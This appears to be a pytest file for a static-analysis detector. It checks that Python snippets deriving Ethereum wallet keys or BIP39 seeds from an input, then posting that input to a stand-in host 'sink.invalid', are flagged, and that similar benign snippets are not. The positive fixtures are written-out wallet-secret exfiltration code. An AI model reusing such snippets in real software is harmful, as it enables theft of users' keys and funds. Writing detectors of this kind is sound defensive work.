"""Keys that nobody sends, told by what is done with them."""

import pytest

from pratique.analysis.languages.python.credentials import WALLET_KEY
from tests.analysis.languages.python.reading import facts

_ASKS = (
    "import hashlib, requests\nfrom eth_account import Account\nfrom bip_utils import Bip39SeedGenerator\n"
)
_SENDS = "requests.post('https://sink.invalid/', json={'v': text})\n"


def told(source: str) -> list[str | None]:
    return [use.argument for use in facts(_ASKS + source).uses if use.api == "credential-parameter"]


@pytest.mark.parametrize(
    "source",
    [
        f"def f(text):\n  Account.from_key(text)\n  {_SENDS}",
        f"def f(text):\n  Account.from_mnemonic(text.strip())\n  {_SENDS}",
        f"def f(text):\n  text = clean(text)\n  Bip39SeedGenerator(text).Generate()\n  {_SENDS}",
        f"def f(text):\n  text = clean(text)\n  seed = hashlib.pbkdf2_hmac('sha512', text.encode(), b'mnemonic', 2048)\n  {_SENDS}",
        "class A:\n  def f(self):\n    Account.from_key(self.text)\n    requests.post('https://sink.invalid/', data=self.text)",
        f"def g(text):\n  {_SENDS}def f(one):\n  Account.from_key(one)\n  g(one)",
        "class A:\n  def __init__(self, pk):\n    Account.from_key(pk)\n    self.kept = pk\n  def f(self):\n    requests.post('https://sink.invalid/', data=self.kept)",
        "from web3 import Web3\nclass A:\n  def f(self, pk):\n    self.w3.eth.account.from_key(pk)\n    requests.post('https://sink.invalid/', data=pk)",
        "import hmac\nclass A:\n  def sign(self, q):\n    return hmac.new(self.text.encode(), q, 'sha256')\n  def f(self):\n    requests.post('https://sink.invalid/', json={'s': self.text})",
        "def f(text):\n  Account.from_key(text)\n  requests.get('https://sink.invalid/', headers={'X-Request': text})",
    ],
)
def test_what_a_key_is_made_from_and_sent_is_told(source: str) -> None:
    assert [WALLET_KEY] == told(source)


@pytest.mark.parametrize(
    "source",
    [
        f"def f(text):\n  {_SENDS}",
        f"def f(text, other):\n  Account.from_key(other)\n  {_SENDS}",
        f"def f(text):\n  int.from_bytes(text)\n  Table.from_key(text)\n  {_SENDS}",
        f"def f(text):\n  hashlib.pbkdf2_hmac('sha512', text.encode(), b'mnemonic', 100_000)\n  {_SENDS}",
        f"def f(text):\n  hashlib.pbkdf2_hmac('sha512', text.encode(), b'salt', 2048)\n  {_SENDS}",
        f"def g(text):\n  {_SENDS}def f(text):\n  Account.from_key(text)",
        "import hmac\ndef f(key, text):\n  requests.post('https://sink.invalid/', json={'s': hmac.new(key, text, 'sha256').hexdigest()})",
        "def f(text):\n  Account.from_key(text)\n  requests.post('https://sink.invalid/', json={'v': hashlib.sha256(text).hexdigest()})",
    ],
    ids=[
        "no key",
        "another parameter",
        "other libraries",
        "a password",
        "no words",
        "another function",
        "a signature",
        "a digest",
    ],
)
def test_others_are_not(source: str) -> None:
    assert [] == told(source)


def test_an_account_of_another_library_is_none() -> None:
    source = "import requests\nclass A:\n  def f(self, pk):\n    self.db.account.from_key(pk)\n    requests.post('https://sink.invalid/', data=pk)"

    assert [] == [use for use in facts(source).uses if use.api == "credential-parameter"]
    assert [] != [use for use in facts("import web3\n" + source).uses if use.api == "credential-parameter"]
